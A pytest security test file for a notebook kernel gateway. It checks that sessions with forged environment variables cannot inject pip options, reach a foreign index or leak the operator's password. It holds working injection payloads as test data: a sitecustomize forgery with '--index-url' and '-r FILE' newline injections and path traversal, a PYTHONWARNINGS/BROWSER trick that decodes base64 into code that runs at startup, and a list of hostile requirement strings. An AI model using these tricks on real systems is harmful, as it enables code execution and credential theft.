"""Sessions whose variables run code in their kernels before anybody asks these anything, as attackers do."""

from __future__ import annotations

import io
import sys
import uuid
import zipfile
from base64 import b64encode
from collections.abc import Iterator
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import NO_ENGINE, serving
from tests.support.server import TOKEN, GatewayProcess, Response
from tests.support.wheels import PATIENCE, Index, build_wheel

PASSWORD = "password-of-the-index"

# Runs before the kernel's own first line, wherever sitecustomize or an option of Python's imports it.
FORGERY = """
import importlib.metadata, json, os, platform
class Forged:
    def __init__(self, name, version):
        self.metadata, self.version = {"Name": name}, version
names = [
    ("evil" + chr(10) + "--index-url", "1"), ("a", "1" + chr(10) + "--index-url=INDEX"),
    ("b", "1" + chr(10) + "-r FILE"), ("../../../../escaped", "1"), ("c", "${PIP_INDEX_URL}"),
    ("forged-by-the-session", "6.6.6"),
]
importlib.metadata.distributions = lambda *arguments, **options: [Forged(*each) for each in names]
platform.python_version = lambda: "3.11/../../../../../escaped"
platform.machine = lambda: "x86_64" + chr(10) + "--index-url=INDEX"
"""


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Index]:
    folder = tmp_path_factory.mktemp("index")
    build_wheel(folder, "apple", "1.0")
    index = Index(folder)
    yield index
    index.close()


@pytest.fixture(scope="module")
def foreign(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Index]:
    """An index that nobody may ask."""
    folder = tmp_path_factory.mktemp("foreign")
    build_wheel(folder, "apple", "6.6.6")
    index = Index(folder)
    yield index
    assert index.asked == []
    index.close()


@pytest.fixture(scope="module", params=["process", "sandbox"])
def gateway(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, index: Index
) -> Iterator[GatewayProcess]:
    """Each local backend."""
    level = request.param
    if level == "sandbox":
        request.getfixturevalue("sandbox")
    data = tmp_path_factory.mktemp(f"forged-{level}") / "data"
    with forging(data, level, index, docker_url=NO_ENGINE) as process:
        yield process


def forging(
    data_dir: Path, backend: str, index: Index, **options: object
) -> AbstractContextManager[GatewayProcess]:
    """A gateway without warm kernels: the first that is started is the attacker's."""
    address = index.url.replace("//", f"//operator:{PASSWORD}@")
    return serving(data_dir, backend, packages="*", package_index=address, **options)


@pytest.fixture
def key(gateway: GatewayProcess) -> Iterator[str]:
    name = f"test-{uuid.uuid4().hex[:12]}"
    yield name
    gateway.delete(f"/v1/sessions/{name}")


def forged(gateway: GatewayProcess, key: str, foreign: Index) -> str:
    """A session whose kernel runs the forgery when Python starts; the code is in no file before."""
    secret = gateway.data_dir / "gateway.json"
    text = FORGERY.replace("INDEX", foreign.url).replace("FILE", str(secret))
    # A filter of warnings names a category, whose module Python imports: antigravity opens the BROWSER.
    word = b64encode(text.encode()).decode()
    env = {
        "PYTHONWARNINGS": "ignore::antigravity.x::0",
        "BROWSER": f"sh -c 'echo {word} | base64 -d > sitecustomize.py' %s",
        "PYTHONPATH": ".",
    }
    answer = gateway.post("/v1/sessions", {"session": key, "env": env}, timeout=PATIENCE)
    assert answer.status == 201, answer.body
    return key


def clean(answer: Response) -> Response:
    """An answer in which there is nothing that an installer, a file or the operator told."""
    text = answer.body.decode()
    for secret in (TOKEN, PASSWORD, "Traceback", "Invalid requirement", "constraints.txt"):
        assert secret not in text, text
    return answer


def provenance(gateway: GatewayProcess, key: str) -> dict[str, Any]:
    known = gateway.get(f"/v1/sessions/{key}/notebook").json()["metadata"]["cellgate"]
    assert isinstance(known, dict)
    return known


def test_a_session_s_variables_tell_nothing_of_its_environment(
    gateway: GatewayProcess, key: str, foreign: Index
) -> None:
    session = forged(gateway, key, foreign)
    seen = gateway.execute(session, "import platform; print(platform.python_version())")["stdout"]
    assert "escaped" in seen, "the forgery must have run: else this shows nothing"
    told = provenance(gateway, session)
    assert told["packages_of"] == "kernelspec_without_session_variables"
    assert "forged-by-the-session" not in told["packages"]

    gateway.execute(f"{key}-plain", "1")
    plain = provenance(gateway, f"{key}-plain")
    assert (plain["python"], plain["packages"]) == (told["python"], told["packages"])
    assert plain["packages_of"] == "kernelspec"
    assert "ipykernel" in plain["packages"]
    gateway.delete(f"/v1/sessions/{key}-plain")

    bundle = gateway.get(f"/v1/sessions/{session}/bundle").body
    lines = zipfile.ZipFile(io.BytesIO(bundle)).read("requirements.txt").decode().splitlines()
    assert [line for line in lines if line.startswith("-") or "://" in line or "==" not in line[1:]] == [
        line for line in lines if line.startswith("# ")
    ]
    assert any("variables of its own" in line for line in lines)


def test_a_forged_environment_reaches_no_installer(
    gateway: GatewayProcess, key: str, index: Index, foreign: Index
) -> None:
    session = forged(gateway, key, foreign)
    asked = len(index.asked)
    answer = clean(gateway.post(f"/v1/sessions/{session}/packages", {"install": ["apple"]}, timeout=PATIENCE))
    assert (answer.status, answer.json()["installed"][0]["version"]) == (200, "1.0"), answer.body
    assert len(index.asked) > asked
    answer = gateway.post(
        f"/v1/sessions/{session}/packages", {"install": ["no-such-thing"]}, timeout=PATIENCE
    )
    assert (clean(answer).status, answer.reason) == (422, "package_not_found")
    result = gateway.execute(session, "%pip install nothing-of-the-kind")
    assert result["error"]["ename"] == "PackageNotFound"
    assert PASSWORD not in str(result)
    assert foreign.asked == []
    assert list(gateway.data_dir.parent.rglob("escaped*")) == []
    assert not (gateway.data_dir.parent.parent / "escaped").exists()
    assert PASSWORD not in gateway.log.read_text()


HOSTILE_CONSTRAINTS = [
    "apple; os_name == 'x\\n--index-url=INDEX'",
    "apple; os_name == '\\n-r FILE\\n'",
    "apple; os_name == '\\x0a-r FILE'",
    "apple; os_name == 'x' or os_name == '\\u000a-r FILE\\u000a'",
    "apple; os_name == '\\x22\\x27'",
    "apple; os_name == 'x\n-r FILE'",
    "apple; os_name == 'x --index-url=INDEX #'",
    "apple===${PIP_INDEX_URL}",
    "apple===x#",
    "apple; os_name == '\\x'",
    "apple; " + "(" * 490,
    "apple\u2028-r FILE",
]


@pytest.mark.parametrize("constraint", HOSTILE_CONSTRAINTS)
def test_a_constraint_is_one_line_or_refused(
    gateway: GatewayProcess, key: str, foreign: Index, constraint: str
) -> None:
    text = constraint.replace("INDEX", foreign.url).replace("FILE", str(gateway.data_dir / "gateway.json"))
    for body in ({"install": ["apple"], "constraints": [text]}, {"install": [text]}):
        answer = clean(gateway.post(f"/v1/sessions/{key}/packages", body, timeout=PATIENCE))
        assert (answer.status, answer.reason) == (400, "bad_request"), answer.body
    assert gateway.get(f"/v1/sessions/{key}").status == 404


@pytest.mark.parametrize("backend", ["process"])
def test_a_module_placed_by_an_upload_tells_nothing_either(
    start_gateway: Any, index: Index, foreign: Index, backend: str
) -> None:
    """Without isolation a path leads into another session's files."""
    gateway = start_gateway(backend=backend, packages="*", package_index=index.url)
    first = gateway.request("PUT", "/v1/sessions/first/files/sitecustomize.py", FORGERY.encode())
    assert first.status == 201, first.body
    folder = gateway.execute("first", "import os; print(os.getcwd())")["stdout"].strip()
    answer = gateway.post("/v1/sessions", {"session": "second", "env": {"PYTHONPATH": folder}})
    assert answer.status == 201, answer.body
    seen = gateway.execute("second", "import platform; print(platform.python_version())")["stdout"]
    assert "escaped" in seen
    told = provenance(gateway, "second")
    assert (told["python"], "forged-by-the-session" in told["packages"]) == (
        ".".join(map(str, sys.version_info[:3])),
        False,
    )
    assert Path(folder, "sitecustomize.py").exists()
